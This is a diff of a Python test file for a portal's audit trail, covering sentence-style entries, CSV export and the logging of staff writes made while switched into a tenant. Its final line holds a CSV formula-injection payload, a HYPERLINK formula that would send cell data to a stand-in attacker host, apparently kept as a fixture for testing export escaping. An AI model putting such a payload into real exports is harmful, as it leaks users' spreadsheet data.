@@ -1,10 +1,13 @@
 """The audit trail in the portal: what people do is recorded as they do it, and landlord staff
-read it at /audit (filtered in place by HTMX) and download it as CSV; nobody else may."""
+read it at /audit (filtered in place by HTMX, each entry in a sentence with its stored values a click
+away) and download it as CSV; nobody else may. A write staff made while switched into a tenant is
+one line there, and on the tenant's own audit page, saying who acted for whom."""
 
 from __future__ import annotations
 
 import csv
 import dataclasses
+import html
 import io
 import re
 from collections.abc import Iterator
@@ -16,11 +19,12 @@ from litestar.testing import TestClient
 from sqlalchemy import select
 from sqlalchemy.ext.asyncio import AsyncSession
 
-from services.audit import Actor, record
+from services.audit import Actor, record, verify
 from services.models import AuditEntry, JobStatus, PlatformRole, TenantRole
 from services.settings import Settings
-from tests.support import Credentials, csrf_token, post_form, run_db, sign_in
+from tests.support import Credentials, csrf_token, post_form, run_db, sign_in, signed_in
 from tests.web.portal import HTMX, add_tenant, add_token, add_user, is_partial, portal
+from tests.web.tenant_world import add_admin, add_units, provision
 from tests.web.test_access import assert_friendly_page, signed_in_as
 from tests.web.test_provisioning_pages import (
     VALID,
@@ -31,6 +35,7 @@ from tests.web.test_provisioning_pages import (
     wait_until_job_finished,
     write_custom_revision,
 )
+from tests.web.test_switching import active_tenant, exit_switch, switch_into
 from tests.workers.support import drop_tenant_databases, wait_until_active, wait_until_finished
 
 
@@ -159,6 +164,13 @@ def rows(page: str) -> list[str]:
     return re.findall(r"<tr>\s*<td>(\d+)</td>", page)
 
 
+def sentences(page: str) -> list[str]:
+    """What the audit table says happened, line by line, as a person reads it."""
+    return [
+        html.unescape(said) for said in re.findall(r"<td class=\"sentence\">\s*([^<]+?)\s*<details>", page)
+    ]
+
+
 def test_staff_filter_the_trail_by_actor_action_and_tenant(
     superadmin_client: TestClient[Any], settings: Settings
 ) -> None:
@@ -214,13 +226,102 @@ def test_the_csv_has_a_header_and_the_filtered_rows(
     assert response.headers["content-disposition"] == 'attachment; filename="audit.csv"'
     table = list(csv.reader(io.StringIO(response.text)))
     assert table[0][:6] == ["seq", "at", "actor_email", "actor_user_id", "tenant", "action"]
-    assert [(row[0], row[2], row[4], row[5]) for row in table[1:]] == [
-        ("4", "lee@example.org", "owls", "tenant.retry"),
-        ("2", "ops@example.org", "owls", "tenant.request"),
+    assert table[0][-1] == "sentence"
+    assert [(row[0], row[2], row[4], row[5], row[-1]) for row in table[1:]] == [
+        ("4", "lee@example.org", "owls", "tenant.retry", "lee@example.org retried provisioning Owls"),
+        ("2", "ops@example.org", "owls", "tenant.request", "ops@example.org asked for the tenant Owls"),
     ]
     everything = list(csv.reader(io.StringIO(superadmin_client.get("/audit.csv").text)))
     assert len(everything) == 1 + 5
     assert 'href="/audit.csv?tenant=owls"' in superadmin_client.get("/audit", params={"tenant": "owls"}).text
+
+
+def test_staff_read_each_entry_as_a_sentence_with_its_stored_values_a_click_away(
+    superadmin_client: TestClient[Any], settings: Settings
+) -> None:
+    reed = add_tenant(settings, "reed-choir", "Reed Choir")
+
+    async def work(session: AsyncSession) -> None:
+        lee, anna = Actor("lee@landlord.example", 8), Actor("anna@reed.example", 9)
+        for actor, action, detail in (
+            (lee, "tenant.request", {"job": 12, "first_admin": "anna@reed.example"}),
+            (anna, "module.enable", {"job": 13, "modules": ["events", "volunteering"], "required": []}),
+            (anna, "module.disable", {"job": 14, "module": "events", "keep_data": True}),
+        ):
+            await record(
+                session, action=action, actor=actor, tenant_id=reed.id, target=reed.slug, detail=detail
+            )
+
+    run_db(settings, work)
+
+    page = superadmin_client.get("/audit", params={"tenant": "reed-choir"}).text
+
+    assert sentences(page) == [
+        "anna@reed.example disabled the Events module of Reed Choir, keeping its data (job #14)",
+        "anna@reed.example enabled the Events and Volunteering modules of Reed Choir (job #13)",
+        "lee@landlord.example asked for the tenant Reed Choir, with anna@reed.example as its first admin (job #12)",
+    ]
+    assert "keep_data=" not in page and "modules=[" not in page
+    stored = page.split("keeping its data (job #14)")[1].split("</details>")[0]
+    assert "<summary>As recorded</summary>" in stored and "<code>module.disable</code>" in stored
+    assert "<dt>keep_data</dt><dd><code>true</code></dd>" in stored
+
+
+SWITCHED_RENAME = (
+    "admin@localhost (superadmin, switched in) renamed the unit North to North HQ for Switch Club"
+)
+
+
+def test_a_write_made_switched_in_is_one_line_saying_who_acted_for_whom_on_both_audit_pages(
+    settings: Settings, superadmin: Credentials
+) -> None:
+    provision(settings, "switch-club")
+    north = add_units(settings, "switch-club", [("North", None)])["North"]
+    club_admin = add_admin(settings, "switch-club", "admin@switch.example")
+    with portal(settings) as client:
+        signed_in(client, superadmin)
+        switch_into(client, "switch-club")
+        path = f"/t/switch-club/units/{north}/rename"
+        renamed = post_form(client, path, {"name": "North HQ"}, follow_redirects=False)
+        exit_switch(client)
+        landlord_page = client.get("/audit", params={"tenant": "switch-club"}).text
+        tenant_page = signed_in(client, club_admin).get("/t/switch-club/audit").text
+
+    assert renamed.status_code == 303
+    for page in (landlord_page, tenant_page):
+        assert sentences(page).count(SWITCHED_RENAME) == 1
+        assert not [line for line in sentences(page) if "made a change" in line], "the write is told twice"
+        stored = page.split(SWITCHED_RENAME)[1].split("</details>")[0]
+        assert "<code>unit.rename</code>" in stored and "<code>switch.write</code>" in stored
+        assert f"<code>&#34;{path}&#34;</code>" in stored
+    kept = [entry.action for entry in trail(settings)]
+    assert kept.count("unit.rename") == kept.count("switch.write") == 1, "the trail keeps both, as stored"
+    assert run_db(settings, verify).ok
+
+
+def test_a_landlord_write_made_switched_in_says_where_and_the_csv_keeps_both_entries(
+    superadmin_client: TestClient[Any], settings: Settings
+) -> None:
+    active_tenant(settings, "harbour-club", "Harbour Club")
+    switch_into(superadmin_client, "harbour-club")
+    assert post_form(superadmin_client, "/users", {"email": "robin@landlord.example"}).status_code == 201
+    exit_switch(superadmin_client)
+
+    everything = sentences(superadmin_client.get("/audit").text)
+    harbours = sentences(superadmin_client.get("/audit", params={"tenant": "harbour-club"}).text)
+    table = list(csv.DictReader(io.StringIO(superadmin_client.get("/audit.csv").text)))
+
+    created = (
+        "admin@localhost (superadmin, switched into Harbour Club) created the account robin@landlord.example"
+    )
+    made = "admin@localhost (superadmin, switched in) made a change for Harbour Club: POST /users"
+    assert created in everything and made not in everything
+    assert made in harbours and created not in harbours, "the account is no tenant's: the write shows alone"
+    assert [(row["action"], row["sentence"]) for row in table[:3]] == [
+        ("switch.end", next(line for line in everything if "left Harbour Club" in line)),
+        ("switch.write", made),
+        ("user.create", created),
+    ]
 
 
 FORMULA_EMAIL = '=HYPERLINK("http://evil.example/?"&A1,"open")'
